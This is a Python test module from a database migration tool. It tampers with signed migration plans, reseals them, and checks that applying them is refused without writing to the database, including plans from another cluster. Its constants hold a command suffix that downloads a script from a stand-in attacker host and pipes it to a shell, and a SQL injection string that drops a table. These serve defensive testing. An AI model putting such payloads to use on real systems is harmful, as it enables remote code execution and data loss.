"""Plans edited and resealed, plans from elsewhere: each applied for real, none may write.

The digest is a plain SHA-256, so every edit here is resealed, as an attacker
(or a well-meaning engineer fixing a plan by hand) would. A case counts as
refused when the run exits 1 and model engine's tables did not change by a
byte; a run that changed them is a wrong write.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import sqlalchemy as sa
from sqlalchemy.engine import make_url

from migrate.core.plan import compute_digest
from tests.faults import child
from tests.faults.crashes import env_for, make_plan
from tests.faults.state import Sandbox, model_engine_digest
from tests.support.roles import reader_without_the_identifier

CURL = "; curl -fsS http://attacker.example/x.sh | sh"
EVIL_ARGS = {"evil": "'; DROP TABLE x; --", "enforce_eager": False, "max_model_len": 999999}

Edit = Callable[[dict[str, Any], Sandbox], None]


def _current_script(sandbox: Sandbox, bundle_id: str) -> str:
    with sandbox.engine.connect() as conn:
        return conn.execute(
            sa.text(
                f'SELECT runnable_image_command[3] FROM "{sandbox.schema}".bundles WHERE id = :b'
            ),
            {"b": bundle_id},
        ).scalar_one()


def _canary(doc: dict[str, Any]) -> dict[str, Any]:
    return next(i for i in doc["items"] if i["stage"] == 1)


def _flip(doc: dict[str, Any], sandbox: Sandbox) -> None:
    item = _canary(doc)
    script = _current_script(sandbox, item["bundle_id"])
    flipped = "add-eager" if item["action"] == "drop-eager" else "drop-eager"
    item.update(action=flipped, command_after=script)
    if item.get("streaming_command_after") is not None:
        item["streaming_command_after"] = script


EDITS: dict[str, Edit] = {
    "args_after set to arbitrary settings": lambda d, s: _canary(d).update(args_after=EVIL_ARGS),
    "command_after appends '; curl ... | sh'": lambda d, s: _canary(d).update(
        command_after=_canary(d)["command_after"] + CURL
    ),
    "streaming command appends '; curl ... | sh'": lambda d, s: _canary(d).update(
        streaming_command_after=(_canary(d).get("streaming_command_after") or "") + CURL
    ),
    "action flipped, command left as it is": _flip,
    "policy threshold lowered to 0.5": lambda d, s: d["policy"].update(threshold="0.5"),
    "no cluster system identifier": lambda d, s: d["database"].update(system_identifier=None),
    "another cluster's identifier": lambda d, s: d["database"].update(
        system_identifier="6999999999999999999"
    ),
    "another socket or host": lambda d, s: d["database"].update(host="/tmp/another", port=5432),
}


def reseal(path: Path, doc: dict[str, Any]) -> None:
    body = {k: v for k, v in doc.items() if k not in ("digest", "signature")}
    path.write_text(json.dumps({**body, "digest": compute_digest(body)}, indent=2))


@dataclass
class EditFigures:
    tried: int = 0
    refused: int = 0
    wrong_writes: int = 0
    tracebacks: int = 0


def edited_plans(sandbox: Sandbox, only: tuple[str, ...] = ()) -> tuple[EditFigures, list[str]]:
    figures, notes = EditFigures(), []
    plan, _ = make_plan(sandbox, "to-edit.json")
    original = json.loads(plan.read_text())
    if not original["items"]:
        return figures, ["nothing to plan: no edited-plan case could run"]
    env = env_for(sandbox)
    for name, edit in EDITS.items():
        if only and name not in only:
            continue
        doc = json.loads(json.dumps(original))
        edit(doc, sandbox)
        path = Path(sandbox.tmp) / f"edited-{figures.tried}.json"
        reseal(path, doc)
        before = model_engine_digest(sandbox)
        seen = child.run(["apply", str(path), "--execute", "--no-redeploy", "--stage", "1"], env)
        figures.tried += 1
        figures.tracebacks += seen.traceback
        if model_engine_digest(sandbox) != before:
            figures.wrong_writes += 1
            notes.append(f"{name}: model engine's tables changed")
        elif seen.exit_status == 1:
            figures.refused += 1
        else:
            notes.append(f"{name}: exit {seen.exit_status} without a refusal")
    return figures, notes


def other_cluster(a: Sandbox, b: Sandbox) -> tuple[EditFigures, list[str]]:
    """Two clusters, as the issue's adversary had them: a plan from A applied to B, and a
    plan made on A by a role that may not read the identifier."""
    figures, notes = EditFigures(), []
    plan, _ = make_plan(a, "cluster-a.json")
    env_b = env_for(b)
    before = model_engine_digest(b)
    for args in (
        ["apply", str(plan)],
        ["apply", str(plan), "--execute", "--no-redeploy", "--all-stages"],
    ):
        for extra in ([], ["--allow-other-address"]):
            seen = child.run([*args, *extra], env_b)
            figures.tried += 1
            figures.tracebacks += seen.traceback
            if model_engine_digest(b) != before:
                figures.wrong_writes += 1
                notes.append(f"{' '.join(args + extra)}: wrote to the other cluster")
            elif seen.exit_status == 1 and "made against another database" in seen.stderr:
                figures.refused += 1
            else:
                notes.append(f"{' '.join(args + extra)}: not refused: {seen.stderr[-300:]}")
    with reader_without_the_identifier(a.engine, a.schema, "n0-id-pw") as role:
        url = make_url(a.url).set(username=role, password="n0-id-pw")
        env = {**env_for(a), "BUNDLE_MIGRATE_DATABASE_URL": url.render_as_string(False)}
        out = Path(a.tmp) / "no-identifier.json"
        seen = child.run(["plan", "--out", str(out)], env)
    figures.tried += 1
    figures.tracebacks += seen.traceback
    grant = "GRANT EXECUTE ON FUNCTION pg_catalog.pg_control_system()"
    if seen.exit_status == 1 and grant in seen.stderr and not out.exists():
        figures.refused += 1
    else:
        notes.append(f"plan without the identifier was not refused: {seen.stderr[-300:]}")
    if "n0-id-pw" in seen.stdout + seen.stderr:
        notes.append("the role's password was printed")
        figures.wrong_writes += 1
    return figures, notes
